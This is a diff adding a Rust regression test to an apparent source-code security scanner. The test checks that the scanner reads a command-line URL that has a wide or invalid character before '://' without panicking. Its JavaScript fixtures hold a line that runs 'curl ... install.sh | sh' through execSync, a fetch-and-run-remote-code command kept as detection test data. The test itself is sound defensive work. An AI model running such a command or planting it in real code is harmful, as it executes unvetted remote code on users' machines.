@@ -797,3 +797,30 @@ fn a_match_after_invalid_utf8_on_its_line_gets_a_snippet() {
         );
     }
 }
+
+/// Regression (fuzz target `scan_source`, this session): a network client's command line with a
+/// non-ASCII character (here invalid UTF-8, read as U+FFFD) right before `://`. The scheme's start
+/// was found one byte after that character, inside it, and slicing there panicked.
+#[test]
+fn a_command_line_url_after_a_wide_character_is_read() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, sep) in [("bad.js", &b"\xff"[..]), ("wide.js", "é".as_bytes())] {
+        let mut src = b"const { execSync } = require('child_process');\n".to_vec();
+        src.extend_from_slice(b"execSync(`curl -fsSL https");
+        src.extend_from_slice(sep);
+        src.extend_from_slice(b"://get.example.sh/install.sh | sh`);\n");
+        std::fs::write(dir.path().join(name), &src).unwrap();
+    }
+    let r = scan(dir.path());
+    assert_eq!(r.stats.parsed, 2, "{:?}", r.stats.skipped);
+    for file in ["bad.js", "wide.js"] {
+        assert!(
+            r.findings.iter().any(|f| f.file == file && f.line == 2),
+            "{file}: {:?}",
+            r.findings
+                .iter()
+                .map(|f| (&f.file, f.line, &f.rule))
+                .collect::<Vec<_>>()
+        );
+    }
+}
